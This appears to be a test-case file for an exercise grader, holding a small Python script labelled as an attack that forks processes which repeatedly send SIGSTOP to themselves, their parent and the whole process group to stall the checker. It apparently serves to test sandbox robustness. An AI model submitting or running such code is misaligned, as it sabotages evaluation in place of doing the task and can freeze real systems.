# attack: stops itself and its whole group with a signal that no one can ignore, again and again
# exercise: ex01_map_dataset
# check: ex01.tabular.len
# slow: uses up the time for an answer
import os
import signal
import time

print("TRIED", flush=True)
for _ in range(5):
    if os.fork() == 0:
        while True:
            os.kill(os.getppid(), signal.SIGSTOP)
            os.killpg(0, signal.SIGSTOP)
while True:
    os.kill(os.getpid(), signal.SIGSTOP)
    os.killpg(0, signal.SIGSTOP)
    time.sleep(0.01)
